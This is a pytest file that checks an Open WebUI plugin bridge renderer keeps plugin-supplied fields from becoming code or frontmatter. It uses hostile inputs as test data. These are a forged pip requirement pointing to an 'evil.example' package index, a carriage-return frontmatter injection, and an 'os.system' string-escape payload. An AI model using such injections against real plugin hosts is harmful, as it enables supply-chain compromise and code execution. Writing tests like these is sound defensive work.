"""A bridge's source: what Open WebUI will read from it, whatever the plugin reported.

A bridge runs unsandboxed in Open WebUI's process and Open WebUI pip-installs what its
frontmatter's ``requirements`` line names, so nothing a plugin controls may become code or
frontmatter in it.
"""

from __future__ import annotations

from typing import Any

import pytest

from airlock.client import FunctionRecord, SubAction
from airlock.openwebui.bridge import BridgeError, BridgeSettings, extract_frontmatter, is_bridge, render

SOURCE = '''"""
title: Honest
author: someone
requirements: jinja2
description: does a thing
"""

class Action:
    async def action(self, body):
        return 1
'''
SETTINGS = BridgeSettings("127.0.0.1:50051")


def record(source: str = SOURCE, **fields: Any) -> FunctionRecord:
    return FunctionRecord(
        **{"id": "honest", "source": source, "sha256": "", "name": "Honest", "kind": "action", "profile": "", **fields}
    )


def test_the_frontmatter_is_the_plugins_own_read_from_its_source_less_requirements() -> None:
    # What the worker reported is the plugin's to forge (its code runs there): never used.
    forged = {"title": "Honest", "requirements": "--extra-index-url https://evil.example/simple, evilpkg"}
    source = render(record(manifest=forged, description="nice\rrequirements: evilpkg"), SETTINGS)
    assert extract_frontmatter(source) == {
        "title": "Honest",
        "author": "someone",
        "description": "does a thing",
        "airlock_bridge": "1",
    }
    assert "evil" not in source


@pytest.mark.parametrize(
    "line",
    ["description: bell \x07 rings", "description: C:\\plugins\\x", "author: a\x00b"],
    ids=["control", "backslash", "nul"],
)
def test_a_frontmatter_line_a_bridge_cannot_carry_is_refused_by_name(line: str) -> None:
    source = SOURCE.replace("description: does a thing", line)
    with pytest.raises(BridgeError, match=r"'honest': the frontmatter line '(description|author)' holds characters"):
        render(record(source), SETTINGS)


def test_names_schemas_and_buttons_are_data_in_the_bridge_never_code() -> None:
    sneaky = "x'); import os; os.system('id'); ('"
    source = render(
        record(
            name=sneaky,
            icon_url=sneaky,
            declares_actions=True,
            actions=(SubAction(id="a", name=sneaky, icon_url=sneaky),),
            valves_schema={"properties": {sneaky: {"type": "string", "default": sneaky}}, "type": "object"},
        ),
        SETTINGS,
    )
    namespace: dict[str, Any] = {"__name__": "function_honest"}
    exec(compile(source, "<bridge>", "exec"), namespace)  # noqa: S102 - what Open WebUI does
    assert namespace["AIRLOCK_TITLE"] == sneaky
    assert namespace["icon_url"] == sneaky
    assert namespace["Action"].actions == [{"id": "a", "name": sneaky, "icon_url": sneaky}]
    # Not an identifier: no field, but the schema Open WebUI shows is the plugin's, verbatim.
    assert namespace["Action"].Valves.model_json_schema()["properties"][sneaky]["default"] == sneaky


def test_a_plugin_carrying_the_bridge_mark_is_not_a_bridge() -> None:
    marked = SOURCE.replace("title: Honest", "title: Honest\nairlock_bridge: 1")
    assert not is_bridge(marked)
    assert is_bridge(render(record(), SETTINGS))


def test_dynamic_option_lists_are_left_out_of_the_served_schema() -> None:
    schema = {
        "properties": {
            "model": {"type": "string", "default": "", "input": {"type": "select", "options": "mro"}},
            "size": {"type": "string", "default": "s", "input": {"type": "select", "options": ["s", "m"]}},
        },
        "type": "object",
    }
    namespace: dict[str, Any] = {"__name__": "function_honest"}
    exec(compile(render(record(valves_schema=schema), SETTINGS), "<bridge>", "exec"), namespace)  # noqa: S102
    served = namespace["Action"].Valves.model_json_schema()["properties"]
    assert served["model"]["input"] == {"type": "select"}
    assert served["size"]["input"] == {"type": "select", "options": ["s", "m"]}


def test_only_declared_sub_actions_are_sub_actions() -> None:
    namespace: dict[str, Any] = {"__name__": "function_other_id"}
    source = render(record(declares_actions=True, actions=(SubAction(id="one", name="One"),)), SETTINGS)
    exec(compile(source, "<bridge>", "exec"), namespace)  # noqa: S102
    assert namespace["AIRLOCK_SUB_ACTIONS"] == ["one"]


def test_valve_names_pydantic_cannot_take_still_load_and_show() -> None:
    schema = {
        "properties": {
            "json": {"type": "string", "default": "a"},
            "model_name": {"type": "string", "default": "b"},
            "copy": {"type": "boolean", "default": True},
            "temperature": {"type": "number", "default": 0.5},
        },
        "type": "object",
    }
    namespace: dict[str, Any] = {"__name__": "function_honest"}
    exec(compile(render(record(valves_schema=schema), SETTINGS), "<bridge>", "exec"), namespace)  # noqa: S102
    valves_class = namespace["Action"].Valves
    assert valves_class.model_json_schema() == schema
    assert valves_class().temperature == 0.5
    assert valves_class(temperature=1).model_dump() == {"temperature": 1}


def test_a_bridge_answers_every_host_method_the_sandbox_may_ask_for() -> None:
    from airlock.openwebui import bridge_runtime  # noqa: PLC0415 - local: one test needs it
    from runner.wire import HOST_METHODS  # noqa: PLC0415

    assert {*bridge_runtime._LOOKUPS, "generate_chat_completion"} == HOST_METHODS
